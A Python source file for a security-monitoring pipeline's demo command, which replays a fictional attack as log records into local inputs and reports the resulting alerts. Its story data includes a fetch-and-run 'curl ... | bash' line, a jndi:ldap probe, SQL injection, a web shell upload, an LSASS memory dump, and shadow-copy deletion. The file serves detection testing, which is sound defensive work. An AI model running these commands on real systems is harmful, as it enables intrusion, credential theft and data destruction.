"""`haidang demo`: an attack of our making is played through the real inputs, syslog and HTTP; events and alerts leave.

A commune's web server is scanned, its SSH guessed, a back door made; from there a clerk's Windows machine falls. All
names and addresses are of documentation ranges (RFC 5737).
"""

import argparse
import http.client
import secrets
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import orjson
from sqlalchemy import ColumnElement, Engine, delete, func, or_, select

from pipeline import access, store
from pipeline.command import show
from pipeline.command.run import wait_ready
from pipeline.event import format_time
from pipeline.messages import HaidangError, choose_language, say
from pipeline.settings import Settings, load_settings
from pipeline.stage import is_running, only_one
from pipeline.state import open_state
from pipeline.state.tables import alerts, stages, tokens
from pipeline.supervisor import Supervisor, stages_of

_ATTACKER = "203.0.113.45"
#: The demo's source, and what marks its token as no one else's.
_NAME = "demo"
#: Stands in a text for the moment at which it is sent.
_NOW = "{now}"
_WEB, _CLERK = "web-ubnd", "MAY-VANTHU-02"
_ACCOUNT = "UBND\\vanthu02"
#: Whom the story is about, and nobody else's alert.
_OURS = {"host.name": (_WEB, _CLERK), "source.ip": (_ATTACKER,), "user.name": (_ACCOUNT,)}
#: How long the whole story takes, in seconds.
_SECONDS = 55.0
#: How long its last events may take to be searchable and its alerts to be listed, in seconds.
_PATIENCE = 20.0


@dataclass(frozen=True, slots=True)
class Line:
    """A syslog message of the web server."""

    facility: int
    program: str
    text: str


@dataclass(frozen=True, slots=True)
class Sysmon:
    """A Windows event of the clerk's machine, as a forwarder sends it."""

    channel: str
    provider: str
    code: int
    data: dict[str, str]


@dataclass(frozen=True, slots=True)
class Chapter:
    """A part of the story: the key of its sentence and what is sent."""

    key: str
    sent: tuple[Line | Sysmon, ...]


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Declare the arguments."""
    parser.add_argument("--fast", action="store_true", help=say("command.demo.fast"))
    parser.add_argument("--json", action="store_true", help=say("command.json"))


def run(chosen: argparse.Namespace) -> int:
    """Play the story; exit status 1 when an event or every alert is missing at the end."""
    settings = load_settings()
    choose_language(settings.language)
    engine = open_state(settings.data_dir, settings.state)
    chapters = story()
    sent = sum(len(chapter.sent) for chapter in chapters)
    with only_one(settings.data_dir, "demo", wait_seconds=0), _pipeline(settings, engine, quiet=chosen.json):
        syslog, web = _ports(engine)
        with _token(engine) as token:
            started = time.time()
            before = _count_alerts(engine, started - 1)
            _play(chapters, syslog, web, token, 0 if chosen.fast else _SECONDS / sent, quiet=chosen.json)
        found, raised = _outcome(settings, engine, started, sent, before)
    if chosen.json:
        show.json_line(
            {"sent": sent, "searchable": found, "alerts": [{"rule": name, "count": n} for name, n in raised]}
        )
    else:
        _print(sent, found, raised)
    return 0 if found >= sent and raised else 1


def story() -> tuple[Chapter, ...]:
    """Return the attack, chapter by chapter."""
    guesses = tuple(
        Line(
            10,
            f"sshd[{4100 + number}]",
            f"Failed password for invalid user {name} from {_ATTACKER} port {40210 + number} ssh2",
        )
        for number, name in enumerate(("admin", "test", "oracle", "ubnd", "postgres", "nguyenvana"))
    )
    strangers = tuple(
        Line(10, f"sshd[{4200 + number}]", f"Invalid user {name} from {_ATTACKER} port {41210 + number}")
        for number, name in enumerate(("admin", "vanthu", "ketoan"))
    )
    return (
        Chapter("demo.quiet", (
            _access("10.20.0.15", "GET /index.html", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/140.0"),
            _access("10.20.0.22", "GET /thu-tuc/ho-tich.html", 200, "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0"),
            Line(9, "CRON[3999]", "(root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)"),
            Line(10, "sshd[4001]", "Accepted publickey for quantri from 10.20.0.5 port 50522 ssh2: ED25519 SHA256:Zg"),
        )),
        Chapter("demo.scan", (
            _access(_ATTACKER, "GET /admin.php", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"),
            _access(_ATTACKER, "GET /../../../../etc/passwd", 400, "Mozilla/5.00 (Nikto/2.5.0)"),
            _access(_ATTACKER, "GET /tra-cuu?so=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 200, "sqlmap"),
            _access(_ATTACKER, "GET /?x=$%7Bjndi:ldap://203.0.113.45/a%7D", 200, "curl/8.5.0"),
        )),
        Chapter("demo.guess", (
            *strangers, *guesses,
            Line(10, "sshd[4300]", f"Accepted password for root from {_ATTACKER} port 42001 ssh2"),
        )),
        Chapter("demo.backdoor", (
            Line(10, "useradd[4310]",
                 "new user: name=hotro, UID=0, GID=0, home=/home/hotro, shell=/bin/bash, from=/dev/pts/0"),
            Line(10, "usermod[4311]", "add 'hotro' to group 'sudo'"),
            Line(9, "CRON[4312]", f"(root) CMD (curl -s http://{_ATTACKER}/x.sh | bash)"),
            _access(_ATTACKER, "POST /uploads/c99.php", 200, "curl/8.5.0"),
        )),
        Chapter("demo.windows", (
            _process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
            _process("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\cmd.exe",
                     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full"),
            Sysmon("System", "Service Control Manager", 7045, {
                "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}),
            _process("C:\\Windows\\System32\\vssadmin.exe", "C:\\Windows\\System32\\cmd.exe",
                     "vssadmin.exe delete shadows /all /quiet"),
            Sysmon("Security", "Microsoft-Windows-Eventlog", 1102,
                   {"SubjectUserName": "vanthu02", "SubjectDomainName": "UBND"}),
        )),
    )  # fmt: skip


def _access(client: str, request: str, status: int, agent: str) -> Line:
    return Line(17, "nginx", f'{client} - - [{_NOW}] "{request} HTTP/1.1" {status} 512 "-" "{agent}"')


def _process(image: str, parent: str, command_line: str) -> Sysmon:
    return Sysmon("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, {
        "UtcTime": _NOW,
        "ProcessId": str(secrets.randbelow(9000) + 1000), "Image": image, "CommandLine": command_line,
        "CurrentDirectory": "C:\\Users\\vanthu02\\", "User": _ACCOUNT, "IntegrityLevel": "High",
        "ParentImage": parent, "ParentCommandLine": parent,
        "OriginalFileName": image.rpartition("\\")[2]})  # fmt: skip


def _play(chapters: tuple[Chapter, ...], syslog: int, web: int, token: str, pause: float, quiet: bool) -> None:
    number = 0
    with socket.create_connection(("127.0.0.1", syslog), timeout=10) as stream:
        for chapter in chapters:
            if not quiet:
                show.line(say(chapter.key))
                sys.stdout.flush()
            for item in chapter.sent:
                number += 1
                if isinstance(item, Line):
                    stream.sendall(_message(item, datetime.now().astimezone()))
                else:
                    _post(web, token, _record(item, datetime.now(UTC), number))
                time.sleep(pause)


def _message(item: Line, now: datetime) -> bytes:
    program, _, pid = item.program.rstrip("]").partition("[")
    text = item.text.replace(_NOW, now.strftime("%d/%b/%Y:%H:%M:%S %z"))
    head = f"<{item.facility * 8 + 6}>1 {now.isoformat(timespec='microseconds')} {_WEB} {program} {pid or '-'} - -"
    return f"{head} {text}\n".encode()


def _record(item: Sysmon, now: datetime, number: int) -> dict[str, Any]:
    stamp = now.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": item.provider}}, "EventID": item.code, "Level": 4,
                "Channel": item.channel, "Computer": _CLERK,
                "TimeCreated": {"#attributes": {"SystemTime": format_time(now)}},
                "EventRecordID": int(now.timestamp() * 1000) + number,
            },
            "EventData": {name: value.replace(_NOW, stamp) for name, value in item.data.items()},
        }
    }  # fmt: skip


def _post(port: int, token: str, record: dict[str, Any]) -> None:
    client = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    client.request("POST", "/v1/events", orjson.dumps(record) + b"\n", {"Authorization": f"Bearer {token}"})
    response = client.getresponse()
    answer = response.read().decode("utf-8", "replace")
    client.close()
    if response.status != 200:
        raise HaidangError("command.demo.refused", status=response.status, answer=answer[:300])


def _outcome(
    settings: Settings, engine: Engine, started: float, sent: int, before: int
) -> tuple[int, list[tuple[str, int]]]:
    """Wait until all is searchable and no further alert comes; return how many events and which alerts there are."""
    reader = store.open_reader(settings.data_dir, settings.store)
    names = {"terms": {"host.name": [_WEB, _CLERK]}}
    since = {"range": {"event.ingested": {"gte": format_time(datetime.fromtimestamp(started - 1, UTC))}}}
    body = {"query": {"bool": {"filter": [names, since]}}, "size": 0}
    deadline = time.monotonic() + _PATIENCE
    found = raised = -1
    while time.monotonic() < deadline:
        found = reader.search(store.EVENTS, body)["hits"]["total"]["value"]
        earlier, raised = raised, _count_alerts(engine, started - 1)
        if found >= sent and raised > before and raised == earlier:
            break
        time.sleep(1)
    query = select(alerts.c.document).where(*_raised(started - 1)).order_by(alerts.c.rule_name)
    with engine.connect().execution_options(read_only=True) as connection:
        return found, Counter(show.rule_name(document) for document in connection.scalars(query)).most_common()


def _count_alerts(engine: Engine, since: float) -> int:
    with engine.connect().execution_options(read_only=True) as connection:
        return connection.scalar(select(func.count()).select_from(alerts).where(*_raised(since))) or 0


def _raised(since: float) -> tuple[ColumnElement[bool], ...]:
    """Return what holds of the story's own alerts since a moment: they name one of whom it is about."""
    named = {name: func.lower(alerts.c.document[name].as_string()) for name in _OURS}  # of a risk in small letters
    return alerts.c.created >= since, or_(*(named[name].in_(map(str.lower, ours)) for name, ours in _OURS.items()))


def _ports(engine: Engine) -> tuple[int, int]:
    with engine.connect().execution_options(read_only=True) as connection:
        detail: dict[str, Any] = connection.scalar(select(stages.c.detail).where(stages.c.stage == "collectors")) or {}
    ports: dict[str, int] = {}
    for places in detail.get("listening", {}).values():
        for place in places:
            kind, _, address = place.partition(" ")
            if kind in ("tcp", "http"):
                ports.setdefault(kind, int(address.rpartition(":")[2]))
    if set(ports) != {"tcp", "http"}:
        raise HaidangError("command.demo.no_inputs", found=", ".join(sorted(ports)) or "-")
    return ports["tcp"], ports["http"]


@contextmanager
def _token(engine: Engine) -> Iterator[str]:
    """Make a token for the time of the demo; one that a killed demo left goes first, one of somebody's own never."""
    own = delete(tokens).where(tokens.c.name == _NAME, tokens.c.role == _NAME)
    with engine.begin() as connection:
        connection.execute(own)
        secret = access.create_token(connection, _NAME, access.SOURCE, _NAME)
    try:
        yield secret
    finally:
        with engine.begin() as connection:
            connection.execute(own)


@contextmanager
def _pipeline(settings: Settings, engine: Engine, quiet: bool) -> Iterator[None]:
    """Use the pipeline that runs, or run one for the time of the demo."""
    if is_running(settings.data_dir, "run"):
        yield
        return
    if not quiet:
        show.line(say("command.demo.starts"))
        sys.stdout.flush()
    supervisor = Supervisor(settings.data_dir, stages_of(settings))
    since = time.time()
    supervisor.start()
    try:
        wait_ready(supervisor, engine, since, threading.Event())
        yield
    finally:
        supervisor.stop()


def _print(sent: int, found: int, raised: list[tuple[str, int]]) -> None:
    if raised:
        show.table(
            say("command.demo.alerts"),
            [say("show.count"), say("show.rule")],
            [(n, name) for name, n in raised],
            right=[0],
        )
    show.line(say("command.demo.done", sent=sent, found=found, alerts=sum(count for _, count in raised)))
    show.line(say("command.demo.next", attacker=_ATTACKER))
